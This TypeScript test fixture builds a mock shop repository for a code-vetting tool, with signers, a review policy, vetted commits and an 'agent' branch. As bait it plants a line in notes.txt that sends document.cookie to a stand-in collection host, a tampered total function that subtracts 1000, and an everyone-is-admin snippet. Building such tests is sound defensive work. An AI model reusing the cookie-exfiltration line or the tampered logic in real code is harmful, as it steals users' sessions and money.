/** The shop that is attacked: its main branch, its people, and a branch that a person honestly vetted. */
import { Signer, World, REPOSITORY_LINE } from './world.ts';

export interface Cast {
  /** Enrolled. */
  readonly ada: Signer;
  readonly bob: Signer;
  /** Enrolled until the end of 2025. */
  readonly past: Signer;
  /** Enrolled from 2999. */
  readonly future: Signer;
  /** Was enrolled; the line was removed. */
  readonly revoked: Signer;
  /** Enrolled for git only. */
  readonly elsewhere: Signer;
}

export const SERVER_TS = `import express from 'express';
import { auth, audit } from './auth';

const app = express();

app.use(audit);
app.use(auth);
app.get('/orders', (req, res) => res.json([]));
app.delete('/orders', (req, res) => res.json('gone'));
app.listen(3000);
`;
export const ROLES_TS = `export class Guest {
  list(): readonly string[] {
    return ['a', 'b', 'c', 'd', 'e', 'f'];
  }
}

export class Admin {
  wipe(everything: boolean): string {
    return everything ? 'all of it is gone' : 'some of it is gone';
  }
}
`;
const REFUND_OLD = `export function refund(paid: number, asked: number): number {
  return asked > 0 ? asked : paid;
}
`;
const REFUND_NEW = `export function refund(paid: number, asked: number): number {
  return Math.min(paid, Math.max(0, asked));
}
`;
/** What the honest branch adds, and Ada vetted. */
export const TOTAL_TS = `/** The sum of what was bought. */
export function total(prices: readonly number[], discount: number): number {
  const limited = Math.min(Math.max(discount, 0), 0.5);
  return prices.reduce((sum, price) => sum + price, 0) * (1 - limited);
}
`;
export const EVIL_TS = `export function total(prices: readonly number[], discount: number): number {
  return prices.reduce((sum, price) => sum + price, 0) * (1 - discount) - 1000;
}
`;
export const POLICY = { version: 1, threshold: 'low', exclude: ['vendor/**'], require: [
  { paths: 'pay/**', reviewers: 2 },
  { paths: 'lib/**', reading: { share: 100, seconds: 5, pace: { lines: 60, seconds: 60 } }, answers: 'risky', bulk: 'refused' },
  { paths: 'ai/**', prompter: 'not-alone' },
], waivers: { by: 'others', days: 90 }, claims: { notAi: 'never' } };

/** The template of all worlds. Branches on the server: `main`; `honest`, one vetted file. The clone stands on a fresh branch `agent`. */
export function openShop(): { readonly world: World; readonly cast: Cast } {
  const cast: Cast = {
    ada: new Signer('ada@example.org'),
    bob: new Signer('bob@example.org'),
    past: new Signer('past@example.org'),
    future: new Signer('future@example.org'),
    revoked: new Signer('revoked@example.org'),
    elsewhere: new Signer('elsewhere@example.org'),
  };
  const world = World.empty();
  const reviewers = REPOSITORY_LINE + cast.ada.line() + cast.bob.line() + cast.past.line('namespaces="vetmark",valid-before="20260101Z"') + cast.future.line('namespaces="vetmark",valid-after="29990101Z"') + cast.elsewhere.line('namespaces="git"');
  world.write('README.md', '# Shop\n\nFor guests.\n\n```js\nexport const everybody = { admin: true, password: undefined, limit: Infinity };\n```\n');
  world.write('notes.txt', "fetch('https://collect.example/' + document.cookie).then((answer) => answer.text());\n");
  world.write('src/server.ts', SERVER_TS);
  world.write('src/auth.ts', 'export const audit = () => undefined;\nexport function auth(): void {\n  throw new Error("who are you?");\n}\n');
  world.write('src/roles.ts', ROLES_TS);
  world.write('src/refund.ts', REFUND_OLD);
  world.write('pay/card.ts', 'export function charge(cents: number): number {\n  return Math.max(0, Math.trunc(cents));\n}\n');
  world.write('vendor/lib.js', 'export const vendored = 1;\n');
  world.write('.vetmark/policy.json', `${JSON.stringify(POLICY, undefined, 2)}\n`);
  world.write('.vetmark/reviewers', reviewers + cast.revoked.line());
  const old = world.vet(cast.ada, ['src/server.ts', 'src/auth.ts', 'src/roles.ts', 'src/refund.ts', 'pay/card.ts']);
  world.commit('base');
  world.write('src/refund.ts', REFUND_NEW);
  world.write('.vetmark/reviewers', reviewers);
  world.vet(cast.ada, ['src/refund.ts']);
  world.sh('cp "$OLD" "$TOP/home/old.json" && cp "$OLD.sig" "$TOP/home/old.json.sig"', { OLD: old });
  world.commit('refund no more than was paid; one reviewer has left');
  world.sh('git push -q origin main');
  world.sh('git switch -q --create honest');
  world.write('src/total.ts', TOTAL_TS);
  world.vet(cast.ada, ['src/total.ts']);
  world.commit('total');
  world.sh('git push -q origin honest && git switch -q main && git switch -q --create agent');
  return { world, cast };
}

export { REFUND_OLD };
